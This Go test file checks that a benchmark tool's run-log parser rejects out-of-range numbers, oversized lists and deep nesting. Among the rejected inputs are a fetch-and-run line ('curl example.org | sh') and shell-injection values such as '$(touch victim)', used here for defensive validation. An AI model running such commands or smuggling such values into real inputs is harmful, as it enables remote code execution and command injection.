package record

import (
	"fmt"
	"os"
	"strings"
	"testing"
	"time"
)

// Numbers of a head that become work or memory are refused where they are read, as is what is no command.
func TestHeadsAreBounded(t *testing.T) {
	const most = "9223372036854775807"
	head := func(members string) string { return `{"kind":"run","version":5,"plan":{},` + members + "}\n" }
	for members, want := range map[string]string{
		`"shard":{"k":1,"n":` + most + `}`:                           "shard",
		`"shard":{"k":1,"n":1000001}`:                                "shard",
		`"shard":{"k":0,"n":2}`:                                      "shard",
		`"shard":{"k":3,"n":2}`:                                      "shard",
		`"shard":{"k":-1,"n":-1}`:                                    "shard",
		`"shards":[{"k":1,"n":` + most + `}]`:                        "shard",
		`"plan":{"processes":` + most + `}`:                          "processes",
		`"plan":{"rounds":-1}`:                                       "rounds",
		`"plan":{"parallel":100000}`:                                 "parallel",
		`"plan":{"links":` + most + `}`:                              "links",
		`"plan":{"values":` + most + `}`:                             "values",
		`"plan":{"cases":18446744073709551615}`:                      "cases",
		`"plan":{"budget_ns":` + most + `}`:                          "budget_ns",
		`"plan":{"sample_ns":-1}`:                                    "sample_ns",
		`"plan":{"precision":-1}`:                                    "precision",
		`"plan":{"matrix":{"command":"$(touch victim)"}}`:            "matrix.command",
		`"plan":{"codecs":[` + strings.Repeat(`"",`, 30000) + `""]}`: "codecs",
		`"environment":{"cores":` + most + `}`:                       "cores",
		`"environment":{"gomaxprocs":-1}`:                            "gomaxprocs",
		`"builds":[{"number":` + most + `}]`:                         "build 0",
		`"builds":[` + strings.Repeat(`{},`, 30000) + `{}]`:          "builds",
		`"links":[{"number":` + most + `,"executable":"x"}]`:         "number",
		`"through":"curl example.org | sh"`:                          "through",
		`"through":"serialbench own ./a B; touch victim"`:            "through",
		`"through":"serialbench own 'a\u000ab'"`:                     "through",
		`"through":"serialbench own $(touch victim) B"`:              "through",
	} {
		for what, read := range map[string]func(string) error{
			"read": func(text string) error { _, err := Read(strings.NewReader(text), "f"); return err },
			"head": func(text string) error { _, err := Head(strings.NewReader(text), "f"); return err },
		} {
			err := read(head(members))
			if err == nil || !strings.Contains(err.Error(), want) || !strings.Contains(err.Error(), "line 1") ||
				len(err.Error()) > 500 || strings.Contains(err.Error(), "\n") {
				t.Errorf("%s %.80s: %v", what, members, err)
			}
		}
	}
	for _, members := range []string{`"shard":{"k":1,"n":1000000}`,
		`"through":"serialbench own ./a 'Page[Order]' --data 'it'\\''s.jsonl'"`, `"plan":{"matrix":{"command":"interop"}}`} {
		if _, err := Read(strings.NewReader(head(members)), "f"); err != nil {
			t.Errorf("%s: %v", members, err)
		}
	}
}

// A line with such numbers is one that cannot be read, and is named.
func TestLinesAreBounded(t *testing.T) {
	const most = "9223372036854775807"
	const sample = `"kind":"sample","codec":"c","dataset":"d","op":"o","ops":1`
	const attack = `"kind":"attack","codec":"c","dataset":"d","op":"o"`
	lines := map[string]string{
		sample + `,"process":` + most:                  "process",
		sample + `,"process":-1`:                       "process",
		sample + `,"round":` + most:                    "round",
		sample + `,"block":-1`:                         "block",
		sample + `,"link":` + most:                     "link",
		sample + `,"host":` + most:                     "host",
		sample + `,"build":2`:                          "build",
		sample + `,"build":-1`:                         "build",
		sample + `,"wall_ns":` + most:                  "wall_ns",
		sample + `,"at_ns":-1`:                         "at_ns",
		sample + `,"alloc_bytes":18446744073709551615`: "alloc_bytes",
		sample + `,"batch_ops":` + most:                "batch_ops",
		sample + `,"positions":-1`:                     "positions",
		sample + `,"batch_ops":1,"positions":1,"batches_ns":[` + most + `],"probes_ps":[1]`:                    "time",
		`"kind":"verdict","codec":"c","dataset":"d","verdict":"ok","build":` + most:                            "build",
		`"kind":"trait","codec":"c","dataset":"d","trait":"t","build":-1`:                                      "build",
		`"kind":"edge","codec":"c","case":"x","verdict":"ok","build":2`:                                        "build",
		`"kind":"witness","finding":"f","verdict":"holds","build":2`:                                           "build",
		`"kind":"failure","codec":"c","dataset":"d","build":-7`:                                                "build",
		`"kind":"failure","codec":"c","dataset":"d","process":` + most:                                         "process",
		attack + `,"planned":18446744073709551615`:                                                             "planned",
		attack + `,"next":18446744073709551615`:                                                                "next",
		attack + `,"levels":18446744073709551615`:                                                              "levels",
		attack + `,"input_bytes":{"dead":-1}`:                                                                  "input_bytes",
		attack + `,"level_bytes":-1`:                                                                           "level_bytes",
		attack + `,"build":2`:                                                                                  "build",
		attack + `,"mutations":{` + many(5000, `"m%d":{}`) + `}`:                                               "mutations",
		attack + `,"mutations":{"m":{` + many(5000, `"o%d":1`) + `}}`:                                          "mutations",
		`"kind":"link","executable":"x","number":` + most:                                                      "number",
		`"kind":"link","executable":"x","number":-1`:                                                           "number",
		`"kind":"link","executable":"x","build":2`:                                                             "build",
		`"kind":"interop","codec":"c","peer":"p","verdict":"exact","tried":-1`:                                 "tried",
		`"kind":"interop","codec":"c","peer":"p","verdict":"exact","tried":1,"inexact":2`:                      "inexact",
		`"kind":"parallel","codec":"c","dataset":"d","op":"o","steps":[{"workers":` + most + `}]`:              "workers",
		`"kind":"parallel","codec":"c","dataset":"d","op":"o","steps":[{"workers":0}]`:                         "workers",
		`"kind":"parallel","codec":"c","dataset":"d","op":"o","steps":[` + many(5000, `{"workers":1%d}`) + `]`: "steps",
		`"kind":"cost","codec":"c","dataset":"d","values":` + most:                                             "values",
		`"kind":"cost","codec":"c","dataset":"d","compressed":[` + many(5000, `{"bytes":%d}`) + `]`:            "compressed",
		`"kind":"codec","id":"c","modules":` + most:                                                            "modules",
		`"kind":"collector","heap":"service","cycle_bytes":1,"scan_bytes":1,"block":-1`:                        "block",
		`"kind":"resume","environment":{"cores":` + most + `}`:                                                 "cores",
		`"kind":"` + strings.Repeat("k", 5000) +
			`"`: "unknown kind",
		`"kind":"sample","nested":` + strings.Repeat(`[`, 100000) + strings.Repeat(`]`, 100000): "depth",
	}
	var text strings.Builder
	text.WriteString(`{"kind":"run","version":5,"plan":{},"builds":[{"number":0},{"number":1}]}` + "\n")
	var wants []string
	for members, want := range lines {
		text.WriteString("{" + members + "}\n")
		wants = append(wants, want)
	}
	text.WriteString("{" + sample + `,"build":1}` + "\n")
	r, err := Read(strings.NewReader(text.String()), "f")
	if err != nil || len(r.Samples) != 1 || len(r.Bad) != len(lines) {
		t.Fatalf("%v: %d samples, %d bad lines of %d", err, len(r.Samples), len(r.Bad), len(lines))
	}
	for i, b := range r.Bad {
		if b.Line != i+2 || !strings.Contains(b.Error(), wants[i]) || len(b.Error()) > mostWord+20 {
			t.Errorf("%v: want %s", b, wants[i])
		}
	}
}

func many(n int, format string) string {
	all := make([]string, n)
	for i := range all {
		all[i] = fmt.Sprintf(format, i)
	}
	return strings.Join(all, ",")
}

// Of shards beyond number some are named, each with its command, and the others counted.
func TestMissingShardsAreCounted(t *testing.T) {
	r := &Record{Name: "f", Run: Run{Started: time.Unix(0, 0), Shard: &Shard{K: 2, N: mostShards}}}
	s, err := ShardsOf([]*Record{r})
	if err != nil || len(s.Missing) != mostShards-1 {
		t.Fatal(err)
	}
	made := 0
	lines := s.Tell(func(Shard) string { made++; return "run" }, func(*Record) string { return "resume" })
	if text := strings.Join(lines, "\n"); made != mostListed || len(lines) > mostListed+10 ||
		!strings.Contains(text, "missing: 999999 of 1000000 shards") || !strings.Contains(text, "999899 more") {
		t.Errorf("%d commands in %d lines: %.300s", made, len(lines), text)
	}
}

func writeFile(t *testing.T, path string, data []byte) {
	t.Helper()
	if err := os.WriteFile(path, data, 0o600); err != nil {
		t.Fatal(err)
	}
}
